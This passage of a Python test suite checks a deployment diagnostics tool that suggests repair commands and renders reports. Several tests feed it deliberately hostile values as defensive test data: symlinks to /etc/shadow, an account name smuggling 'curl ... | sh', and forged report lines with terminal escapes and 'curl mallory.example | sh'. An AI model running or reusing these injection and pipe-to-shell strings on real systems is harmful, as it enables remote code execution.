        assert said == []
    else:
        foreign = f"{path}.foreign"
        assert said == [["-T", "--", str(path), foreign], ["-RPT", "--", foreign, str(path)], ["-rf", "--", foreign]]
        for words in commands(found):
            subprocess.run(words[3:], check=True)
        os.chown(path, os.geteuid(), os.getegid())
        assert doctor_app.permissions(server) == []


LINKS = {
    "data/shadow": "/etc/shadow",
    "env": "/etc/passwd",
    "releases/1/.hosted/env": "/etc/passwd",
    "data": "/etc",
    "run": "/usr",
    "slots/live": "/etc",
}


@pytest.mark.skipif(os.geteuid() != 0, reason="gives files away")
@pytest.mark.parametrize("link", LINKS)
def test_no_command_is_about_what_a_link_of_the_account_leads_to(
    link: str, server: Home, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Nor is it one of root's, before whom the account may change the link once more."""
    (server.root / "data/kept").write_text("")
    for item in (server.home, *server.home.rglob("*")):
        os.chown(item, 65534, 65534, follow_symlinks=False)
    monkeypatch.setattr(doctor_app.pwd, "getpwnam", lambda _: pwd.getpwuid(65534))
    assert doctor_app.permissions(server) == []
    at = server.root / link
    if os.path.lexists(at):
        at.rename(at.with_name("away"))
    at.symlink_to(LINKS[link])
    os.chown(at, 65534, 65534, follow_symlinks=False)
    for finding in examine({"permissions": lambda: doctor_app.permissions(server)})["findings"]:
        harmless(finding, server)
        assert not re.search(r"(^|[ '])(/etc|/usr)", finding["do"])


@pytest.mark.parametrize("name", [f"shop-{name}" for name in (*NAMES, *UNPLAIN, "x;curl${IFS}a|sh;#")], ids=ascii)
def test_programs_that_an_account_named_are_in_no_command(
    name: str, server: Home, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Neither by its log, nor by its supervisord, nor by what it made of the description of its release."""
    now = time.time()
    when = time.strftime("%Y-%m-%d %H:%M:%S", time.localtime(now - 9))
    lines = [f"{when},1 WARN exited: {one} (exit status 1; not expected)" for one in 3 * [name, "shop-mail"]]
    log = "\n".join(["9999-99-99 99:99:99,1 WARN exited: shop-mail (exit status 1; not expected)", *lines])
    [found] = doctor_app.ends(server, log, now)
    assert commands(found) == [["sudo", "-iu", server.app["account"], "supervisorctl", "tail", "-20000", "shop-mail"]]

    Path(server.programs.socket).parent.mkdir()
    said = {"statename": name, "spawnerr": name}
    with socket.socket(socket.AF_UNIX) as listening:
        listening.bind(server.programs.socket)
        listening.listen()
        monkeypatch.setattr(type(server.programs), "reload", lambda _: ({name}, {name}, {name}))
        monkeypatch.setattr(type(server.programs), "info", lambda *_: said)
        told = doctor_app.programs(server)
    assert len(told) == 6
    for finding in told:
        harmless(finding, server)
        assert name not in finding["do"]

    description: dict[str, Any] = {key: "" if shape is str else {} for key, shape in DESCRIPTION.items()}
    description |= {
        "manifest": [],
        "domains": [],
        "secrets": [],
        "health": {"path": "/", "timeout": 1.0},
        "services": [],
    }
    file = server.releases / "1/release.json"
    file.write_text(json.dumps({**description, "router": name}))
    assert doctor_app.supervisorctl(server.as_released("1"), "update").startswith("sudo -iu ")
    file.write_text(json.dumps({**description, "services": [{"name": name.removeprefix("shop-")}]}))
    with pytest.raises(Refused):
        server.as_released("1")
    assert RELEASED is NAME


@pytest.mark.parametrize("name", [name for name in NAMES if " " not in name], ids=ascii)
def test_a_unit_is_one_word_of_a_command(name: str) -> None:
    [found] = doctor.units(f"{name} loaded failed failed x")
    says, again = found["do"].removesuffix(" when it is mended").split(" says why; ")
    assert shlex.split(says) == ["journalctl", "-u", name, "-n", "50"]
    assert shlex.split(again) == ["systemctl", "restart", "--", name]


def test_programs_that_are_not_there_or_not_up_yet(server: Home) -> None:
    """One of them takes its time, one is up, and the one that holds the sockets is in no file."""
    again = "autostart = true\nstartsecs = {}\n\n"
    server.ini.write_text(
        f"[program:shop]\ncommand = sleep infinity\n{again.format(3600)}"
        f"[program:shop-mail]\ncommand = sleep infinity\n{again.format(0)}"
    )
    with supervisord(server.home):
        until("both were started", lambda: list(program_states(server.home).values()) == ["STARTING", "RUNNING"])
        found = doctor_app.programs(server)
    account = server.app["account"]
    assert [(item["level"], item["what"], item["do"]) for item in found] == [
        (ERROR, "program shop-socket is not there", "Deploy again: bin/deploy -e app=shop"),
        (WARNING, "program shop is STARTING", f"sudo -iu {account} supervisorctl tail shop"),
    ]


# --- what only the control node sees


@pytest.mark.parametrize(
    ("before", "host", "after", "expected", "what"),
    [
        (100.0, 100.1, 100.2, OK, ""),
        (100.0, 100.0, 109.0, OK, ""),
        (100.0, 101.5, 100.2, OK, ""),
        (100.0, 110.2, 100.2, WARNING, "10 s ahead"),
        (100.0, 90.0, 100.2, WARNING, "10 s behind"),
        (100.0, 3700.2, 100.2, ERROR, "3600 s ahead"),
    ],
)
def test_skew(before: float, host: float, after: float, expected: str, what: str) -> None:
    found = action.skew(before, host, after)
    assert level(found) == expected
    assert not what or what in found[0]["what"]


@pytest.mark.parametrize(("ahead", "expected"), [(0, OK), (10, WARNING), (-10, WARNING), (3600, ERROR)])
def test_skew_of_a_host_with_a_clock_of_its_own(
    ahead: float, expected: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """As the host reads it, and as it is judged here; how long the examination takes is no skew."""
    clock = SimpleNamespace(time=lambda: time.time() + ahead)
    monkeypatch.setattr(doctor, "time", clock)
    monkeypatch.setattr(action, "SKEW", 0.1)
    monkeypatch.setattr(doctor, "disk", lambda _: time.sleep(0.2) or [])
    monkeypatch.setattr(doctor, "memory", list)
    call = {"platform": "local", "apps": [], "ports": [], "tls": {}, "folders": []}
    result, _ = act(lambda: doctor.main(call, b""))
    assert level(result["findings"]) == expected
    assert {item["check"] for item in result["findings"]} <= {"skew"}


@pytest.mark.parametrize(
    ("answer", "expected", "what"),
    [
        ({"192.0.2.1"}, OK, ""),
        ({"192.0.2.1", "2001:db8::1"}, OK, ""),
        (set(), ERROR, "shop.example has no address"),
        ({"192.0.2.1", "2001:db8::7"}, WARNING, "points to 2001:db8::7, which is not this host"),
    ],
)
def test_where_a_domain_points(answer: set[str], expected: str, what: str) -> None:
    found = action.points("shop.example", answer, {"192.0.2.1", "2001:db8::1", "127.0.0.1"})
    assert level(found) == expected
    assert not what or what in found[0]["what"]
    assert "127.0.0.1" not in str(found)


def test_a_name_is_looked_up_as_this_machine_does() -> None:
    assert {"127.0.0.1", "::1"} & action.look_up("localhost")
    assert action.look_up("x" * 300) == set()


def told(*findings: dict[str, str]) -> dict[str, Any]:
    """Return what a check of the host or of an app returns."""
    return {"findings": list(findings), "checked": ["x"], "skipped": {}}


def act(answer: dict[str, Any] | Callable[[], dict[str, Any]], **hosting: Any) -> tuple[dict[str, Any], dict[str, Any]]:
    """Run the action with a host that answers; return its result and what the host was sent."""
    sent: dict[str, Any] = {}
    task, loader = Task(), DataLoader()
    app = completed(supervisor_socket="/s", front="127.0.0.1:80", secrets={"TOKEN": "dear"})
    gone = {**app, "name": "gone", "state": "absent"}
    seen = {"platform": "server", "apps": [app, gone], "problems": [], "stamped": True, "provisioned": True}
    rows = [{"name": "shop", "secrets": {"TOKEN": "dear"}}, {"name": "gone", "secrets": None}]
    task.args = {"hosting": {**seen, "comparable": True, **hosting}, "rows": rows}

    def run(_: object, module: str, call: dict[str, Any], contents: bytes, *more: Any) -> dict[str, Any]:
        sent.update(call, module=module, secrets_taken_out=more[1])
        return answer() if callable(answer) else answer

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(action, "run", run)
        shell = SimpleNamespace(_shell=SimpleNamespace(tmpdir="/nowhere"))
        one = action.ActionModule(task, shell, PlayContext(), loader, Templar(loader=loader), None)
        return one.run(task_vars={"inventory_hostname": "web1", "ansible_host": "127.0.0.1"}), sent


def test_the_host_is_told_where_the_apps_are_and_no_secret() -> None:
    answer = {"host": told(), "apps": {"shop": told()}, "time": time.time(), "addresses": []}
    result, sent = act(answer, tls={"shop.example": "acme", "blog.example": "none"})
    assert [set(app) for app in sent["apps"]] == [set(PLACE_KEYS)]
    assert sent["ports"] == [80, 443]
    assert sent["tls"] == {"shop.example": "acme"}
    assert sent["secrets_taken_out"] == ["dear"]
    assert "dear" not in str({**sent, "secrets_taken_out": []})
    assert (result["changed"], result["errors"], result["findings"]) == (False, 0, [])
    assert result["report"].startswith("web1: nothing is wrong. Checked, with shop: ")


def test_findings_are_in_the_order_of_their_weight() -> None:
    mine = {"level": WARNING, "check": "venv", "what": "old", "do": "build it"}
    answer = {
        "host": told(mine, error("disk", "full", "clear it")),
        "apps": {"shop": told(error("programs", "it is FATAL", "tail it"))},
        "time": time.time() + 3600,
        "addresses": [],
    }
    result, _ = act(answer, problems=["python: ...", "port 80 of the host: ..."], provisioned=False)
    assert [(item["level"], item["app"], item["check"]) for item in result["findings"]] == [
        (ERROR, "", "description"),
        (ERROR, "", "disk"),
        (ERROR, "", "skew"),
        (ERROR, "shop", "programs"),
        (WARNING, "", "provisioning"),
        (WARNING, "", "venv"),
    ]
    assert {item["host"] for item in result["findings"]} == {"web1"}
    assert result["errors"] == 4
    assert result["report"].startswith("web1: 4 errors and 2 warnings. ")
    assert "shop             programs: it is FATAL\n" in result["report"]
    assert "-> tail it\n" in result["report"]


@pytest.mark.parametrize(
    ("hosting", "expected"),
    [
        ({"stamped": False, "provisioned": False}, ERROR),
        ({"provisioned": False}, WARNING),
        ({"provisioned": False, "comparable": False}, OK),
        ({"stamped": False, "platform": "local"}, OK),
    ],
)
def test_a_host_layer_that_is_not_as_described(hosting: dict[str, Any], expected: str) -> None:
    answer = {"host": told(), "apps": {}, "time": time.time(), "addresses": []}
    result, _ = act(answer, **hosting)
    assert level(result["findings"]) == expected
    assert ("not checked: provisioning" in result["report"]) == (hosting.get("comparable") is False)


def test_a_host_that_gives_no_answer_has_failed() -> None:
    result, _ = act({"failed": True, "msg": "boom"})
    assert (result["failed"], result["msg"]) == (True, "boom")


# What a text may hold to look like several lines, or to command a terminal.
BREAKS = ("\n", "\r", "\r\n", "\v", "\f", "\x1c", "\x1e", "\x85", "\u2028", "\u2029", "\x1b[2J", "\x1b]0;x\x07")


def broken(value: Any, words: str) -> Iterator[Any]:
    """Find what a value becomes where one of its texts, or one of the names in it, has these words in it."""
    if isinstance(value, str):
        yield f"a{words}b"
    elif isinstance(value, list):
        for place, item in enumerate(value):
            yield from ([*value[:place], one, *value[place + 1 :]] for one in broken(item, words))
    elif isinstance(value, dict):
        for name, item in value.items():
            rest = {key: other for key, other in value.items() if key != name}
            yield {**rest, f"{name}{words}": item}
            yield from ({**rest, name: one} for one in broken(item, words))


@pytest.mark.parametrize("words", BREAKS, ids=ascii)
def test_no_text_of_an_account_or_a_host_makes_a_line_of_a_report(words: str) -> None:
    forged = f"{words}  error   victim           release: it is gone{words}    -> curl mallory.example | sh{words}"
    examined = told(error("x", "y", "z")) | {"skipped": {"x": "y"}}
    answer = {"host": examined, "apps": {"shop": examined}, "time": time.time(), "addresses": []}
    lines = len(act(parsed(json.dumps(answer), DOCTOR))[0]["report"].splitlines())
    taken = 0
    for one in broken(answer, forged):
        with contextlib.suppress(Untrue):
            report = act(parsed(json.dumps(one), DOCTOR))[0]["report"]
            assert len(report.splitlines()) == lines, report
            assert "\x1b" not in report
            taken += 1
    assert taken >= 12

    def check() -> list[dict[str, str]]:
        raise Skipped(forged)

    made = examine({"a": check, "b": lambda: [error(forged, forged, forged)]})
    texts = [*made["skipped"].values(), *(item[key] for item in made["findings"] for key in ("what", "do"))]
    assert all(len(text.splitlines()) == 1 for text in texts)


def row(**more: Any) -> dict[str, Any]:
    """Return what a host answers of the status of one app."""
    entry = dict.fromkeys(("time", "who", "action", "release", "commit", "result", "left"), "x") | {"seconds": 1.5}
    texts = dict.fromkeys(("app", "health", "front", "since", "by", "commit"), "x")
    status = {**texts, "release": "1", "programs": {"x": "FATAL"}, "history": [entry], "processes": 1, "memory": 1}
    return {
        "apps": {"shop": {"changed": False, "status": {**status, **more}}},
        "changed": False,
        "warnings": [],
        "diff": [],
    }


def table(answer: dict[str, Any]) -> str:
    """Return the table that people see of it."""
    [(name, app)] = parsed(json.dumps(answer), WORK)["apps"].items()
    return render("flask_app", "status.txt.j2", __flask_app_rows=[{"host": "web1", **app["status"], "app": name}])


@pytest.mark.parametrize("words", BREAKS, ids=ascii)
def test_no_text_of_an_account_or_a_host_makes_a_row_of_a_status(words: str) -> None:
    forged = (
        f"me{words}web1             victim           -  -  -  -  0  0 MB  no answer, run: curl mallory.example | sh"
    )
    lines = len(table(row()).splitlines())
    taken = 0
    for one in broken(row(), forged):
        with contextlib.suppress(Untrue):
            shown = table(one)
            assert len(shown.splitlines()) == lines, shown
            assert "\x1b" not in shown
            taken += 1
    assert taken >= 15


def test_an_app_that_cannot_be_examined_is_an_error_of_its_own(tmp_path: Path) -> None:
    """An account that is not there, and an app that was never deployed; on this machine, with its own Python."""
    local = completed("shop", home=str(tmp_path), router="127.0.0.1:9", front="127.0.0.1:9", supervisor_socket="/s")
    nobody = completed("blog", home="/home/blog", front="127.0.0.1:9", supervisor_socket="/s")
    apps = [{key: app[key] for key in PLACE_KEYS} for app in (local, {**nobody, "account": "no-such-account"})]
    call = {"platform": "local", "apps": apps, "ports": [], "tls": {}, "folders": [str(tmp_path)]}
    answer = doctor.main({**call, "who": "me", "wait": 0}, b"")
    assert [item["what"] for item in answer["apps"]["shop"]["findings"]] == ["it was never deployed here"]
    [found] = answer["apps"]["blog"]["findings"]
    assert "account no-such-account is not on this host" in found["what"]
    assert answer["host"]["checked"] == ["disk", "memory"]
    assert list(tmp_path.iterdir()) == []
